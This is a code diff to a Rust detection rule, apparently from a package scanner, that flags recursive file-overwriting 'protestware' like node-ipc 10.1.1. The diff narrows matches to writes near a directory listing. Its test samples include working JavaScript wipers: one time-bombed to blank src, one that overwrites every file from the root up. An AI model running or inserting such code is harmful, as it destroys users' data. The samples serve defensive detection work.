@@ -23,8 +23,15 @@ crate::declare_rule! {
            "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
            "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)"],
     pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
-           "fs.rmSync(path.join(tmp, 'build'), { recursive: true })", "// never run rm -rf / on a machine"],
+           "fs.rmSync(path.join(tmp, 'build'), { recursive: true })",
+           // vite 5.2.10: lists directories in one function, writes a fixed package.json into
+           // its cache in another, and names '..' elsewhere; no walk overwrites anything
+           "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine"],
 }
+
+/// How far (in bytes) after a directory listing an overwrite still counts as part of the walk
+/// (node-ipc 10.1.1: about 520 bytes; vite 5.2.10's unrelated write: 227,000).
+const WALK_WINDOW: usize = 1_500;
 
 fn check(pkg: &Package, out: &mut Emitter) {
     let shell = crate::regex!(
@@ -123,8 +130,25 @@ fn check(pkg: &Package, out: &mut Emitter) {
             );
             continue;
         }
-        let walks = js.calls.iter().any(|c| c.path.starts_with("fs.readdir"));
-        let writes = js.calls.iter().find(|c| c.path.starts_with("fs.writeFile"));
+        // The overwrite must sit in the walk itself: within a few lines after a directory
+        // listing. A bundle that lists a directory in one function and writes a fixed
+        // package.json in another (vite 5.2.10's dependency optimiser) walks nothing.
+        let listings: Vec<u32> = js
+            .calls
+            .iter()
+            .filter(|c| c.path.starts_with("fs.readdir"))
+            .map(|c| c.off)
+            .collect();
+        let in_walk = |off: u32| {
+            listings
+                .iter()
+                .any(|&l| l <= off && ((off - l) as usize) < WALK_WINDOW)
+        };
+        let walks = !listings.is_empty();
+        let writes = js
+            .calls
+            .iter()
+            .find(|c| c.path.starts_with("fs.writeFile") && in_walk(c.off));
         let derived = |w: &str| js.derived.iter().any(|(d, _)| d == w);
         let climbs = text.contains("'../../'")
             || text.contains("\"../../\"")
@@ -134,7 +158,10 @@ fn check(pkg: &Package, out: &mut Emitter) {
         // A recursive walk from above the project that overwrites what it finds with constant
         // content (node-ipc 10.1.1 and its locale-keyed imitators).
         let overwrites = js.calls.iter().find(|c| {
-            c.path.starts_with("fs.writeFile") && c.arg_lit(1).is_some() && c.arg_lit(0).is_none()
+            c.path.starts_with("fs.writeFile")
+                && c.arg_lit(1).is_some()
+                && c.arg_lit(0).is_none()
+                && in_walk(c.off)
         });
         let above = text.contains("\"..\"") || text.contains("'..'") || climbs;
         let recursive = js
